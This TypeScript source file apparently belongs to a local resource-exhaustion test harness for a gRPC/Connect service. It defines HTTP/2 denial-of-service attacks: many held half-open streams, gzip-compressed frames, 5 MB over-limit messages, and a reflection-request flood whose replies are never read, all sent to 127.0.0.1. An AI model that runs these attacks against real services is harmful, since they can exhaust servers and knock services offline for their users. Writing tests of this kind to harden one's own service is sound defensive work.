import { once } from "node:events";
import { type ClientHttp2Session, type ClientHttp2Stream, connect, type IncomingHttpHeaders } from "node:http2";
import { connect as connectSocket } from "node:net";
import { type Attack, again, attackerAddress, type Count, grpcWebStatusIn, reasonIn } from "./attack.ts";
import { emptyPairs, emptyPairsGzip, frame } from "./payloads.ts";

const check = "/connectory.v1.ConnectionService/BatchCheckConnections";
const watch = "/connectory.v1.ConnectionService/WatchConnections";
const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

export interface Calls {
  readonly port: "grpcPort" | "httpPort";
  readonly path: string;
  readonly type: string;
  readonly body: () => Buffer;
  readonly streams: number;
  readonly withToken: boolean;
  /** Whether the request is ever ended. */
  readonly ends: boolean;
  readonly encoding?: Readonly<Record<string, string>>;
}

/** One connection after the other, each with many calls, which are held for a while. */
export function calls(
  { port, path, type, body, streams, withToken, ends, encoding = {} }: Calls,
  holdMs: number,
): Attack {
  return (target, signal, told) =>
    again(signal, 200, async () => {
      const session = open(target[port]);
      const end = () => session.destroy();
      signal.addEventListener("abort", end, { once: true });
      try {
        await once(session, "connect", { signal });
        const headers = { ":method": "POST", ":path": path, "content-type": type, te: "trailers", ...encoding };
        for (let count = 0; count < streams && !session.closed; count++) {
          const stream = session.request({
            ...headers,
            ...(withToken ? { authorization: `Bearer ${target.token}` } : {}),
          });
          countEnd(stream, told);
          if (ends) stream.end(body());
          else stream.write(body());
        }
        await Promise.race([once(session, "close", { signal }), new Promise((resolve) => setTimeout(resolve, holdMs))]);
      } finally {
        signal.removeEventListener("abort", end);
        end();
      }
    });
}

/** By the status in its head or trailers, or in the frame in which gRPC-Web has them. */
function countEnd(stream: ClientHttp2Stream, told: Count): void {
  const seen: IncomingHttpHeaders = {};
  let body = Buffer.alloc(0);
  stream.on("error", () => undefined);
  stream.on("response", (head) => Object.assign(seen, head));
  stream.on("trailers", (tail) => Object.assign(seen, tail));
  stream.on("data", (chunk: Buffer) => {
    if (body.length < 10_000) body = Buffer.concat([body, chunk]);
  });
  stream.on("close", () => {
    if (seen[":status"] === undefined) return told(`none (reset ${stream.rstCode})`);
    const details = String(seen["grpc-status-details-bin"] ?? "");
    const reason = reasonIn(Buffer.from(details, "base64")) || reasonIn(body);
    told(`${seen[":status"]} ${seen["grpc-status"] ?? grpcWebStatusIn(body)} ${reason}`.trim());
  });
}

function open(port: number): ClientHttp2Session {
  const createConnection = () => connectSocket({ port, host: "127.0.0.1", localAddress: attackerAddress });
  // In MB. What is not sent yet counts too, and with the 10 MB of Node the attacker itself would reset streams (11).
  const session = connect(`http://127.0.0.1:${port}`, { createConnection, maxSessionMemory: 1000 });
  session.on("error", () => undefined);
  return session;
}

const plainFrame = frame(emptyPairs, false);
const gzipFrame = frame(emptyPairsGzip, true);
const overLimit = frame(Buffer.alloc(5_000_000), false);
const gzip = { "grpc-encoding": "gzip" };
const grpc = "application/grpc";
const halfOpen = { path: check, body: () => gzipFrame, streams: 400, ends: false, encoding: gzip };
const pairs = { path: check, body: () => gzipFrame, streams: 4, ends: true, withToken: true };

/** Over HTTP/2, on both ports. */
export const http2Attacks: Readonly<Record<string, Attack>> = {
  "b1-half-open-grpc": calls({ ...halfOpen, port: "grpcPort", type: grpc, withToken: false }, 20_000),
  "b1-half-open-grpc-token": calls({ ...halfOpen, port: "grpcPort", type: grpc, withToken: true }, 20_000),
  "b1-half-open-grpc-http": calls({ ...halfOpen, port: "httpPort", type: grpc, withToken: true }, 20_000),
  "b1-half-open-grpc-web": calls(
    { ...halfOpen, port: "httpPort", type: "application/grpc-web+proto", withToken: true },
    20_000,
  ),
  "b1-half-open-connect": calls(
    {
      ...halfOpen,
      port: "httpPort",
      path: watch,
      type: "application/connect+proto",
      withToken: true,
      encoding: { "connect-content-encoding": "gzip" },
    },
    20_000,
  ),
  "b3-pairs-grpc": calls({ ...pairs, port: "grpcPort", type: grpc, encoding: gzip }, 1000),
  "b3-pairs-grpc-http": calls({ ...pairs, port: "httpPort", type: grpc, encoding: gzip }, 1000),
  "b3-pairs-grpc-web": calls({ ...pairs, port: "httpPort", type: "application/grpc-web+proto", encoding: gzip }, 1000),
  "b3-pairs-connect": calls(
    {
      ...pairs,
      port: "httpPort",
      type: "application/proto",
      body: () => emptyPairsGzip,
      encoding: { "content-encoding": "gzip" },
    },
    1000,
  ),
  "b3-pairs-plain-grpc": calls({ ...pairs, port: "grpcPort", type: grpc, body: () => plainFrame }, 2000),
  "b5-over-limit-grpc": calls({ ...pairs, port: "grpcPort", type: grpc, body: () => overLimit }, 2000),
  "b4-reflection": async ({ grpcPort }, signal, told) =>
    again(signal, 1000, async () => {
      // Asks and never reads: the session's own window holds the answers back.
      const session = open(grpcPort);
      await once(session, "connect", { signal });
      const stream = session.request({ ":method": "POST", ":path": reflection, "content-type": grpc, te: "trailers" });
      stream.on("error", () => undefined);
      stream.on("response", () => told("answered"));
      stream.pause();
      const name = Buffer.from("connectory.v1.ConnectionProfileService");
      const request = frame(Buffer.concat([Buffer.from([0x22, name.length]), name]), false);
      for (let count = 0; count < 20_000 && !stream.closed && !signal.aborted; count++) {
        if (!stream.write(request)) await Promise.race([once(stream, "drain", { signal }), once(stream, "close")]);
        if (count % 200 === 0) await new Promise((resolve) => setTimeout(resolve, 20));
      }
      told(stream.closed ? "ended by the server" : "all sent");
      await new Promise((resolve) => setTimeout(resolve, 5000));
      session.destroy();
    }),
};
